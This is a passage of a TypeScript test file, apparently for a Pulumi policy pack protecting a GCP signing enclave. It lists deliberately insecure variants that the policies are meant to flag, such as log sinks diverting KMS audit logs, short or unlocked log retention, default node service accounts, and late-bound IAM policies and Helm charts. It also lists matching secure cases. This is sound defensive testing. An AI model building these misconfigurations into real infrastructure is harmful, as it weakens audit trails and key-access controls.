        mutate: interceptingSink("central-intercept", `protoPayload.serviceName="cloudkms.googleapis.com"`) },
    { name: "the worker project's log bucket keeps one day and is not locked", cls: "audit trail", policy: "signer-evidence-locked", offender: "worker-logs-short",
        mutate: workerLogBucket("worker-logs-short", 1, false) },
    { name: "the Cloud KMS audit log bucket is locked but keeps only 30 days", cls: "audit trail", policy: "signer-evidence-locked", offender: "kms-log-bucket",
        mutate: add(() => {
            const bucket = new gcp.logging.ProjectBucketConfig("kms-log-bucket", { project: SIGNER_PROJECT, location: "global", bucketId: "kms-audit", retentionDays: 30, locked: true });
            new gcp.logging.ProjectSink("kms-log-sink", { project: SIGNER_PROJECT, name: "kms-audit", destination: pulumi.interpolate`logging.googleapis.com/${bucket.id}`,
                filter: `protoPayload.serviceName="cloudkms.googleapis.com"`, uniqueWriterIdentity: true });
        }) },
    { name: "the runner cluster runs Autopilot with the default node service account", cls: "compute kinds read from the table", policy: "gke-runner-node-pool-hardened", offender: "k8s-cluster",
        mutate: autopilot() },
);

CLASS_SECURE.push(
    { name: "an organization sink intercepting only VM logs", mutate: interceptingSink("central-vm-logs", `resource.type="gce_instance"`) },
    { name: "the worker project's log bucket is locked and keeps 400 days", mutate: workerLogBucket("worker-logs-kept", 400, true) },
    { name: "the runner cluster runs Autopilot with the pool's own node service account", mutate: autopilot((core) => core.k8s.sa.email) },
);

// ------------------------------------------------ preview near the enclave: documents and templates unknown until apply
const lateUser = (name: string) => pulumi.interpolate`user:auditor-${new random.RandomId(`${name}-suffix`, { byteLength: 4 }).hex}@acme.example`;

CLASS_VARIANTS.push(
    { name: "a signer project IAM policy built by getIAMPolicy from a member unknown during the first preview", cls: "preview near the enclave", policy: LPV, offender: "late-doc-project",
        modes: ["preview"], mentions: "cannot be proven safe before apply",
        also: [{ policy: "single-signer" }, { policy: "signer-key-versions-controlled" }, { policy: "platform-identity-impersonation" }, { policy: "signer-invoked-by-generator-only" },
            { policy: ENCLAVE }, { policy: "provenance-by-control-plane" }, { policy: "no-public-iam" }],
        mutate: add(() => {
            const doc = gcp.organizations.getIAMPolicyOutput({ bindings: [{ role: "roles/viewer", members: [lateUser("late-doc-project")] }] });
            new gcp.projects.IAMPolicy("late-doc-project", { project: SIGNER_PROJECT, policyData: doc.policyData });
        }) },
    { name: "a signer key IAM policy built by getIAMPolicy from a member unknown during the first preview", cls: "preview near the enclave", policy: LPV, offender: "late-doc-key",
        modes: ["preview"], mentions: "cannot be proven safe before apply",
        also: [{ policy: "single-signer" }, { policy: "signer-key-versions-controlled" }, { policy: ENCLAVE }, { policy: "no-public-iam" }],
        mutate: add((h) => {
            const doc = gcp.organizations.getIAMPolicyOutput({ bindings: [{ role: "roles/cloudkms.viewer", members: [lateUser("late-doc-key")] }] });
            new gcp.kms.CryptoKeyIAMPolicy("late-doc-key", { cryptoKeyId: h.key.id, policyData: doc.policyData });
        }) },
);

CLASS_VARIANTS.push(
    { name: "a Helm v4 chart the pack cannot render, installed into the runner namespace", cls: "preview near the enclave", policy: "k8s-runner-namespace-workloads", offender: "tools-v4",
        mentions: "cannot be proven (fail closed)", also: [{ policy: "k8s-manifests-visible" }],
        mutate: k8sAdd((_h, o) => {
            new k8s.helm.v4.Chart("tools-v4", { chart: "node-tools", repositoryOpts: { repo: "https://charts.example.com" }, namespace: "runners" }, o);
        }) },
    { name: "a Helm release whose chart is unknown during the first preview, in the runner namespace", cls: "preview near the enclave", policy: "k8s-runner-namespace-workloads", offender: "late-release",
        modes: ["preview"], mentions: "unknown until apply",
        mutate: k8sAdd((_h, o) => {
            new k8s.helm.v3.Release("late-release", { chart: pulumi.interpolate`oci://registry.example/charts/tools-${new random.RandomId("late-chart", { byteLength: 2 }).hex}`, namespace: "runners" }, o);
        }) },
);
